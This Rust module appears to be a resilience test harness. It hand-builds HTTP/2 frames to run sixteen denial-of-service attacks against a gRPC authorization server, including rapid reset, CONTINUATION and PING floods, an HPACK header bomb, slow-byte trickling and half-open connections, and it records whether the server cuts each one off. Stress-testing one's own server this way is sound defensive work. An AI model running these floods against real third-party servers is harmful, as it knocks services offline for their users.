//! What a hostile client does to an HTTP/2 port, in bytes, with no library that would refuse to.
//!
//! Each attack goes on until it is cut off, or until there is nothing left to try; then the connections close.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// A name, and what is done.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    run: fn(SocketAddr) -> std::io::Result<Outcome>,
}

/// How it ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Outcome {
    /// The connection was closed, or nobody read what was sent any more.
    CutOff,
    /// Everything was sent, and the connection is still good.
    Endured,
}

impl Attack {
    pub(crate) fn run(&self, address: SocketAddr) -> Outcome {
        // Whoever cannot even write was cut off.
        (self.run)(address).unwrap_or(Outcome::CutOff)
    }
}

pub(crate) const ATTACKS: [Attack; 16] = [
    // CVE-2023-44487
    Attack { name: "rapid reset", run: rapid_reset },
    // CVE-2025-8671: what the client does makes the server reset.
    Attack { name: "made-you-reset", run: made_you_reset },
    // CVE-2024-27316 and others
    Attack { name: "CONTINUATION flood", run: continuation_flood },
    Attack { name: "PING flood", run: ping_flood },
    Attack { name: "SETTINGS flood", run: settings_flood },
    Attack { name: "empty DATA flood", run: empty_data_flood },
    Attack { name: "10,000 streams", run: ten_thousand_streams },
    Attack { name: "slow headers", run: slow_headers },
    Attack { name: "preface, a byte at a time", run: slow_preface },
    Attack { name: "huge header list", run: huge_header_list },
    Attack { name: "header bomb", run: header_bomb },
    Attack { name: "huge message", run: huge_message },
    Attack { name: "calls without time", run: calls_without_time },
    Attack { name: "answers nobody takes", run: closed_window },
    Attack { name: "1,000 half-open connections", run: half_open },
    Attack { name: "halves of messages", run: half_messages },
];

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const GOAWAY: u8 = 7;
pub(crate) const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;
pub(crate) const ACK: u8 = 1;
/// How long an attack may go on, and how long its connections are held when everything is sent.
const LIMIT: Duration = Duration::from_secs(20);
const HOLD: Duration = Duration::from_secs(2);
/// How long it is tried to send where nobody reads.
const PATIENCE: Duration = Duration::from_secs(2);
/// Bytes that trickle, and time between two of them.
const TRICKLE: usize = 10;
const DRIP: Duration = Duration::from_secs(1);
const TICK: Duration = Duration::from_millis(1);

fn rapid_reset(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(50_000) {
        let mut frames = frame(HEADERS, END_HEADERS, stream, &call());
        frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        client.send(&frames)?;
    }
    client.endured()
}

fn made_you_reset(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(50_000) {
        let mut frames = frame(HEADERS, END_HEADERS, stream, &call());
        // An increment of zero is a stream error (RFC 9113, section 6.9).
        frames.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
        client.send(&frames)?;
    }
    client.endured()
}

fn continuation_flood(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    client.send(&frame(HEADERS, 0, 1, &call()))?;
    for number in 0..4_000 {
        let piece = literal(&format!("x-{number}"), &"y".repeat(8_000));
        client.send(&frame(CONTINUATION, 0, 1, &piece))?;
    }
    client.endured()
}

fn ping_flood(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    client.deaf = true;
    for _ in 0..2_000 {
        client.send(&frame(PING, 0, 0, &[7; 8]).repeat(100))?;
    }
    client.endured()
}

fn settings_flood(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    client.deaf = true;
    for _ in 0..2_000 {
        client.send(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100))?;
    }
    client.endured()
}

/// RUSTSEC-2026-0258
fn empty_data_flood(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    client.send(&frame(HEADERS, END_HEADERS, 1, &call()))?;
    for _ in 0..2_000 {
        client.send(&frame(DATA, 0, 1, &[]).repeat(100))?;
    }
    client.endured()
}

fn ten_thousand_streams(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(10_000) {
        client.send(&frame(HEADERS, END_HEADERS, stream, &call()))?;
    }
    client.linger(HOLD)?;
    client.endured()
}

fn slow_headers(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &[call(), literal("x-slow", &"y".repeat(9_000))].concat());
    bytes.truncate(9_000);
    trickle(&mut client, &bytes)
}

fn slow_preface(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::to(TcpStream::connect(address)?)?;
    trickle(&mut client, PREFACE)
}

/// A byte a second.
fn trickle(client: &mut Client, bytes: &[u8]) -> std::io::Result<Outcome> {
    for byte in bytes.chunks(1).take(TRICKLE) {
        client.send(byte)?;
        client.linger(DRIP)?;
    }
    client.endured()
}

fn huge_header_list(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(200) {
        client.send(&frame(HEADERS, 0, stream, &call()))?;
        for number in 0..8 {
            let piece = literal(&format!("x-{number}"), &"y".repeat(16_000));
            client.send(&frame(CONTINUATION, if number == 7 { END_HEADERS } else { 0 }, stream, &piece))?;
        }
    }
    client.endured()
}

/// A header that is remembered once and named sixteen thousand times.
fn header_bomb(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    let mut remembered = call();
    let entry = literal("x", &"y".repeat(4_000));
    remembered.push(0x40);
    remembered.extend(entry.iter().skip(1));
    client.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &remembered))?;
    for stream in streams(100).skip(1) {
        // Number 62 is the youngest that is remembered.
        let bomb = [call(), vec![0xbe; 16_000]].concat();
        client.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb))?;
    }
    client.endured()
}

fn huge_message(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(20) {
        client.send(&frame(HEADERS, END_HEADERS, stream, &call()))?;
        client.data(0, stream, &[0, 0x7f, 0xff, 0xff, 0xff])?;
        for _ in 0..20 {
            client.data(0, stream, &[0x0a; 16_000])?;
        }
    }
    client.endured()
}

/// Each is answered before its message has come, and remembered for that.
fn calls_without_time(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    client.send(&frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes()))?;
    let call = [call(), literal("grpc-timeout", "0n")].concat();
    let all: Vec<_> = streams(50_000).collect();
    for some in all.chunks(500) {
        let begun = |stream: &u32| frame(HEADERS, END_HEADERS, *stream, &call);
        client.send(&some.iter().flat_map(begun).collect::<Vec<_>>())?;
        client.linger(5 * TICK)?;
    }
    client.endured()
}

fn half_messages(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    for stream in streams(1_000) {
        client.send(&frame(HEADERS, END_HEADERS, stream, &call()))?;
        client.data(0, stream, &[0, 0, 4, 0, 0])?;
        for _ in 0..15 {
            client.data(0, stream, &[0x0a; 16_000])?;
        }
    }
    client.linger(HOLD)?;
    client.endured()
}

fn closed_window(address: SocketAddr) -> std::io::Result<Outcome> {
    let mut client = Client::connect(address)?;
    // No answer may be sent.
    client.send(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))?;
    for stream in streams(1_000) {
        client.send(&frame(HEADERS, END_HEADERS, stream, &call()))?;
        client.data(END_STREAM, stream, &[0, 0, 0, 0, 0])?;
    }
    client.linger(HOLD)?;
    client.endured()
}

fn half_open(address: SocketAddr) -> std::io::Result<Outcome> {
    let open = |_| TcpStream::connect(address);
    let all = (0..1_000).map(open).collect::<std::io::Result<Vec<_>>>()?;
    std::thread::sleep(HOLD);
    let mut first = Client::to(all.first().ok_or(ErrorKind::NotFound)?.try_clone()?)?;
    first.linger(Duration::from_millis(100))?;
    first.endured()
}

struct Client {
    stream: TcpStream,
    /// Whether to leave answers where they are.
    deaf: bool,
    began: Instant,
    /// The beginning of a frame that has not come whole.
    received: Vec<u8>,
    /// Bytes of DATA that the other side has room for; whoever sends more has not even to be slowed down.
    window: usize,
}

impl Client {
    /// A connection that has begun.
    fn connect(address: SocketAddr) -> std::io::Result<Self> {
        let mut client = Self::to(TcpStream::connect(address)?)?;
        client.send(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, ACK, 0, &[])].concat())?;
        Ok(client)
    }

    fn to(stream: TcpStream) -> std::io::Result<Self> {
        stream.set_nodelay(true)?;
        stream.set_nonblocking(true)?;
        // RFC 9113, section 6.9.2
        Ok(Self { stream, deaf: false, began: Instant::now(), received: Vec::new(), window: 65_535 })
    }

    /// DATA, as soon as there is room for it.
    fn data(&mut self, flags: u8, stream: u32, payload: &[u8]) -> std::io::Result<()> {
        let patience = Instant::now() + PATIENCE;
        while self.window < payload.len() {
            if Instant::now() > patience {
                return Err(ErrorKind::TimedOut.into());
            }
            self.linger(TICK)?;
        }
        self.window -= payload.len();
        self.send(&frame(DATA, flags, stream, payload))
    }

    fn send(&mut self, mut bytes: &[u8]) -> std::io::Result<()> {
        let mut patience = Instant::now() + PATIENCE;
        while !bytes.is_empty() {
            if Instant::now() > patience.min(self.began + LIMIT) {
                return Err(ErrorKind::TimedOut.into());
            }
            match self.stream.write(bytes) {
                Ok(count) => {
                    bytes = bytes.get(count..).unwrap_or_default();
                    patience = Instant::now() + PATIENCE;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => std::thread::sleep(TICK),
                Err(error) => return Err(error),
            }
            if !self.deaf {
                self.read()?;
            }
        }
        Ok(())
    }

    fn linger(&mut self, time: Duration) -> std::io::Result<()> {
        let until = Instant::now() + time;
        while Instant::now() < until {
            self.read()?;
            std::thread::sleep(TICK);
        }
        Ok(())
    }

    /// Takes what is there; an error, once the other side has ended or said that it will.
    fn read(&mut self) -> std::io::Result<()> {
        let mut bytes = [0; 16 * 1024];
        match self.stream.read(&mut bytes) {
            Ok(0) => Err(ErrorKind::ConnectionAborted.into()),
            Ok(count) => {
                self.received.extend_from_slice(bytes.get(..count).unwrap_or_default());
                self.heed()
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(()),
            Err(error) => Err(error),
        }
    }

    fn heed(&mut self) -> std::io::Result<()> {
        while let Some((kind, stream, payload)) = next_frame(&mut self.received) {
            match (kind, stream, payload.first_chunk()) {
                (GOAWAY, _, _) => return Err(ErrorKind::ConnectionAborted.into()),
                (WINDOW_UPDATE, 0, Some(more)) => {
                    self.window += usize::try_from(u32::from_be_bytes(*more)).unwrap_or_default();
                }
                _ => {}
            }
        }
        Ok(())
    }

    fn endured(&mut self) -> std::io::Result<Outcome> {
        self.linger(Duration::from_millis(200))?;
        Ok(Outcome::Endured)
    }
}

/// Takes a whole frame off what was received: its kind, its stream and its payload.
pub(crate) fn next_frame(received: &mut Vec<u8>) -> Option<(u8, u32, Vec<u8>)> {
    let (&[long, middle, short, kind, _, a, b, c, d], rest) = received.split_first_chunk::<9>()?;
    let length = usize::from(long) << 16 | usize::from(middle) << 8 | usize::from(short);
    let payload = rest.get(..length)?.to_vec();
    received.drain(..9 + length);
    Some((kind, u32::from_be_bytes([a, b, c, d]), payload))
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A client's streams have odd numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| number * 2 + 1)
}

/// The headers of a check, none of them to be remembered.
pub(crate) fn call() -> Vec<u8> {
    let pairs = [
        (":path", "/envoy.service.auth.v3.Authorization/Check"),
        (":authority", "tenantgate"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    // `:method: POST` and `:scheme: http`, in HPACK's static table (RFC 7541, appendix A).
    pairs.iter().fold(vec![0x83, 0x86], |block, (name, value)| [block, literal(name, value)].concat())
}

pub(crate) fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        // An integer with a prefix of seven bits (RFC 7541, section 5.1).
        let mut rest = text.len();
        let prefix = rest.min(0x7f);
        field.push(u8::try_from(prefix).unwrap_or(0));
        rest -= prefix;
        while rest >= 0x80 {
            field.push(u8::try_from(rest % 0x80).unwrap_or(0) | 0x80);
            rest /= 0x80;
        }
        if prefix == 0x7f {
            field.push(u8::try_from(rest).unwrap_or(0));
        }
        field.extend_from_slice(text.as_bytes());
    }
    field
}
